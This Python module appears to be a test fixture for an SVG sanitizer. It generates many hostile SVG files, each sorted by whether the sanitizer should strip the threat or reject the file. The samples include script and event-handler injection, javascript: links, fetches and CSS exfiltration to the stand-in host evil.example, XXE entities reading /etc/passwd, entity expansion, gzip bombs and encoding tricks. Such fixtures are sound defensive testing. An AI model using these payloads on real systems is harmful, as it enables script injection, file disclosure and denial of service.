"""Drawings that attack: what is wrong with each, and what is to become of it. Every script in them says attacked()."""

import gzip

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
SHAPE = '<rect id="r" width="10" height="10" fill="#0d4f5c"/>'
EVIL = "http://evil.example/x"
JS = "javascript:attacked()"


def drawing(inside, on_root="", before=""):
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" {on_root}>{inside}{SHAPE}</svg>'.encode()


def styled(rules):
    return drawing(f"<style>{rules}</style>")


def entity(declaration, use="&a;"):
    return drawing(f"<desc>{use}</desc>", before=f"<!DOCTYPE svg [{declaration}]>")


def copies(levels, each):
    """A drawing of each^levels copies of one square."""
    groups = "".join(
        f'<g id="g{level}">' + f'<use href="#g{level - 1}"/>' * each + "</g>" for level in range(1, levels + 1)
    )
    return drawing(f'<defs><rect id="g0" width="1" height="1"/>{groups}</defs><use href="#g{levels}"/>')


HTML = '<{0} xmlns="http://www.w3.org/1999/xhtml" {1}/>'

# {name: (what is told as left out, the file)}
CLEANED = {
    "script": ("script", drawing("<script>attacked()</script>")),
    "script in CDATA": ("script", drawing("<script type='text/javascript'><![CDATA[attacked()]]></script>")),
    "script from elsewhere": ("script", drawing(f'<script href="{EVIL}.js"/>')),
    "script from elsewhere, old spelling": ("script", drawing(f'<script xlink:href="{EVIL}.js"/>', XLINK)),
    "script from data": ("script", drawing('<script href="data:text/javascript,attacked()"/>')),
    "script under another prefix": (
        "script",
        drawing("<a:script>attacked()</a:script>", 'xmlns:a="http://www.w3.org/2000/svg"'),
    ),
    "script of a web page": ("script", drawing('<script xmlns="http://www.w3.org/1999/xhtml">attacked()</script>')),
    "handler": ("script", drawing('<handler type="application/ecmascript">attacked()</handler>')),
    "script within title": (None, drawing("<title><script>attacked()</script></title>")),
    "onload": ("event", drawing("", 'onload="attacked()"')),
    "onclick": ("event", drawing('<g onclick="attacked()"><path d="M0 0h9"/></g>')),
    "onbegin": ("animation", drawing('<animate onbegin="attacked()" attributeName="x" dur="1s"/>')),
    "event in capitals": ("event", drawing("", 'ONLOAD="attacked()"')),
    "event written as numbers": ("event", drawing("", 'onload="&#97;ttacked&#40;)"')),
    "focus by itself": ("event", drawing('<g tabindex="0" autofocus="" onfocus="attacked()"/>')),
    "event of a page's element": ("foreign", drawing(HTML.format("img", 'src="x" onerror="attacked()"'))),
    "link to script": ("link", drawing(f'<a href="{JS}">{SHAPE}</a>')),
    "link to script, old spelling": ("link", drawing(f'<a xlink:href="{JS}">{SHAPE}</a>', XLINK)),
    "link to script, broken by a tab": ("link", drawing(f'<a href="java&#9;script:attacked()">{SHAPE}</a>')),
    "link to data": ("link", drawing(f'<a href="data:text/html,&lt;script>attacked()&lt;/script>">{SHAPE}</a>')),
    "use of script": ("external", drawing(f'<use href="{JS}"/>')),
    "use from elsewhere": ("external", drawing(f'<use href="{EVIL}.svg#a"/>')),
    "use of data": ("external", drawing('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')),
    "use without a scheme": ("external", drawing('<use href="//evil.example/x.svg#a"/>')),
    "use of a file": ("external", drawing('<use href="file:///etc/passwd#a"/>')),
    "base": ("external", drawing('<use href="#r"/>', f'xml:base="{EVIL}/"')),
    "gradient from elsewhere": ("external", drawing(f'<linearGradient id="a" href="{EVIL}.svg#a"/>')),
    "pattern from elsewhere": ("external", drawing(f'<pattern id="a" href="{EVIL}.svg#a"/>')),
    "filter picture from elsewhere": ("external", drawing(f'<filter id="a"><feImage href="{EVIL}"/></filter>')),
    "fill from elsewhere": ("external", drawing(f'<path d="M0 0h9v9" fill="url({EVIL}.svg#a)"/>')),
    "fill from elsewhere, written in escapes": ("external", drawing(f'<path d="M0 0h9v9" fill="\\75 rl({EVIL}#a)"/>')),
    "fill with a fallback from elsewhere": ("external", drawing(f'<path d="M0 0h9v9" fill="url(#r) url({EVIL})"/>')),
    "mask from elsewhere": ("external", drawing(f"<g mask=\"url('{EVIL}#a')\"/>")),
    "cursor from elsewhere": ("external", drawing(f'<g style="cursor:url({EVIL}),auto"/>')),
    "style fetches": ("external", drawing(f'<g style="background:url({EVIL})"/>')),
    "style fetches by a picture set": ("external", drawing(f"<g style=\"background:image-set('{EVIL}' 1x)\"/>")),
    "style binds": ("external", drawing(f'<g style="-moz-binding:url({EVIL}#a)"/>')),
    "style behaves": ("external", drawing('<g style="behavior:url(#default)"/>')),
    "style computes": ("external", drawing('<g style="width:expression(attacked())"/>')),
    "sheet imports": ("external", styled(f'@import url("{EVIL}.css");')),
    "sheet imports without url": ("external", styled(f'@import "{EVIL}.css";')),
    "sheet imports in escapes": ("external", styled(f'@\\69mport "{EVIL}.css";')),
    "sheet imports behind a remark": ("external", styled(f"/* */ @import/**/url({EVIL});")),
    "sheet brings a font": ("external", styled(f"@font-face{{font-family:a;src:url({EVIL})}}")),
    "sheet spies on names": ("style", styled(f'rect[id^="r"]{{background:url({EVIL})}}')),
    "sheet fetches when touched": ("style", styled(f"rect:hover{{fill:url({EVIL})}}")),
    "sheet hides a fetch": ("external", styled(f"rect{{fill:u\\72l({EVIL})}}")),
    "sheet fetches for one medium": ("external", styled(f"@media all{{rect{{fill:url({EVIL})}}}}")),
    "sheet from elsewhere": ("external", drawing("", before=f'<?xml-stylesheet type="text/css" href="{EVIL}.css"?>')),
    "style of a page": ("foreign", drawing(HTML.format("link", f'rel="stylesheet" href="{EVIL}.css"'))),
    "covers the page": (None, drawing("", 'style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9"')),
    "foreign object": (
        "foreign",
        drawing(
            '<foreignObject width="9"><p xmlns="http://www.w3.org/1999/xhtml" onclick="attacked()"/></foreignObject>'
        ),
    ),
    "foreign object with a frame": (
        "foreign",
        drawing(f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{JS}"/></foreignObject>'),
    ),
    "foreign object in a switch": (
        None,
        drawing(
            '<switch><foreignObject><p xmlns="http://www.w3.org/1999/xhtml" onload="attacked()"/></foreignObject></switch>'
        ),
    ),
    "frame": ("foreign", drawing(HTML.format("iframe", 'srcdoc="&lt;script>attacked()&lt;/script>"'))),
    "object": ("foreign", drawing(HTML.format("object", f'data="{JS}"'))),
    "embed": ("foreign", drawing(HTML.format("embed", f'src="{EVIL}"'))),
    "form": ("foreign", drawing(HTML.format("form", f'action="{JS}"'))),
    "base of a page": ("foreign", drawing(HTML.format("base", f'href="{EVIL}"'))),
    "refresh": ("foreign", drawing(HTML.format("meta", f'http-equiv="refresh" content="0;url={EVIL}"'))),
    "audio": ("foreign", drawing(HTML.format("audio", 'src="x" onerror="attacked()"'))),
    "video of svg": ("other", drawing(f'<video href="{EVIL}"/>')),
    "set makes a link of script": ("animation", drawing(f'<a><set attributeName="href" to="{JS}"/>{SHAPE}</a>')),
    "animation makes a link of script": (
        "animation",
        drawing(f'<a href="#r"><animate attributeName="href" values="{JS}"/>{SHAPE}</a>'),
    ),
    "animation sets an event": ("animation", drawing('<set attributeName="onclick" to="attacked()"/>')),
    "movement without end": (
        "animation",
        drawing('<animateTransform attributeName="transform" type="rotate" repeatCount="indefinite" dur="1ms"/>'),
    ),
    "font of svg": ("external", drawing(f'<defs><font-face-uri href="{EVIL}"/></defs><use href="{EVIL}"/>')),
    "number beyond all": ("value", drawing('<path d="M0 0 L1e999 9"/>')),
    "breaks out of an attribute": ("value", drawing("<g fill='\"&gt;&lt;script&gt;attacked()&lt;/script&gt;'/>")),
    "breaks out of a name": (None, drawing("<g id='x\"&gt;&lt;script&gt;attacked()'/>")),
    "overflows its box": (
        None,
        drawing('<path d="M-999 -999h9999v9999"/>', 'overflow="visible" style="overflow:visible"'),
    ),
}

# {name: (the code of the reason, the file)}
REFUSED = {
    "entities by the billion": ("entities", entity('<!ENTITY b "haha"><!ENTITY a "&b;&b;&b;&b;&b;&b;&b;&b;">')),
    "entity from a file": ("entities", entity('<!ENTITY a SYSTEM "file:///etc/passwd">')),
    "entity from elsewhere": ("entities", entity(f'<!ENTITY a SYSTEM "{EVIL}">')),
    "parameter entity": ("entities", entity(f'<!ENTITY % a SYSTEM "{EVIL}.dtd">%a;', "")),
    "entity that holds script": ("entities", entity('<!ENTITY a "<script>attacked()</script>">')),
    "entity under Illustrator's name": ("entities", entity('<!ENTITY ns_svg "&#60;script>attacked()">', "&ns_svg;")),
    "attribute by declaration": ("entities", entity('<!ATTLIST svg onload CDATA "attacked()">', "")),
    "entity that is not declared": ("damaged", drawing("<desc>&nbsp;</desc>")),
    "copies by the billion": ("too_complex", copies(9, 10)),
    "copy of itself": ("circular", drawing('<g id="a"><use href="#a"/></g>')),
    "copies in a circle": ("circular", drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
    "pattern of itself": ("circular", drawing('<pattern id="a"><path d="M0 0h9" fill="url(#a)"/></pattern>')),
    "gradients in a circle": (
        "circular",
        drawing('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
    ),
    "depth": ("too_deep", drawing("<g>" * 10_000 + "</g>" * 10_000)),
    "depth just beyond the bound": ("too_deep", drawing("<g>" * 70 + "</g>" * 70)),
    "heap of matches": (
        "too_complex",
        drawing("<style>" + ".a{fill:red}" * 2_000 + "</style>" + '<g class="a"/>' * 200),
    ),
    "chain of copies": (
        "too_deep",
        drawing("".join(f'<g id="a{i}"><use href="#a{i + 1}"/></g>' for i in range(5_000)) + '<g id="a5000"/>'),
    ),
    "sheet of brackets": ("too_deep", styled("a{fill:" + "(" * 200_000)),
    "heap of elements": ("too_complex", drawing("<g/>" * 30_000)),
    "heap of filters": (
        "too_complex",
        drawing('<filter id="a"><feGaussianBlur stdDeviation="999"/></filter>' + '<g filter="url(#a)"/>' * 400),
    ),
    "heap of rules": ("too_complex", styled(".a{fill:red}" * 30_000)),
    "heap of bytes": ("too_heavy", drawing(f'<path d="M{"0 0 " * 600_000}"/>')),
    "compressed bomb": ("compressed", gzip.compress(b" " * 9_000_000)),
    "words in UTF-7": ("encoding", b'<?xml version="1.0" encoding="UTF-7"?>' + drawing("+ADw-script+AD4-attacked()")),
    "words in UTF-32": ("encoding", drawing("<script>attacked()</script>").decode().encode("utf-32")),
    "words in EBCDIC": ("encoding", b'<?xml version="1.0" encoding="cp037"?>' + drawing("")),
    "half a character": ("encoding", drawing("<desc>\xff</desc>").decode().encode("latin-1")),
    "picture from elsewhere": ("pixels", drawing(f'<image href="{EVIL}.png" width="9" height="9"/>')),
    "picture that is a drawing": (
        "pixels",
        drawing('<image href="data:image/svg+xml,&lt;svg onload=attacked()>" width="9" height="9"/>'),
    ),
    "picture of a file": ("pixels", drawing('<image xlink:href="file:///etc/passwd"/>', XLINK)),
    "web page": ("no_svg", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>attacked()</script></html>"),
    "drawing inside of a web page": ("no_svg", b"<html><body><svg onload='attacked()'/></body></html>"),
    "only script": ("empty", drawing("<script>attacked()</script>").replace(SHAPE.encode(), b"")),
    "as wide as the world": ("shape", drawing("", 'width="1e6" height="1"')),
    "text": ("text", drawing("<text>attacked()</text>")),
    "nothing": ("damaged", b""),
    "zeroes": ("damaged", b"\0" * 100),
}
ATTACKS = {name: data for name, (_end, data) in (CLEANED | REFUSED).items()}
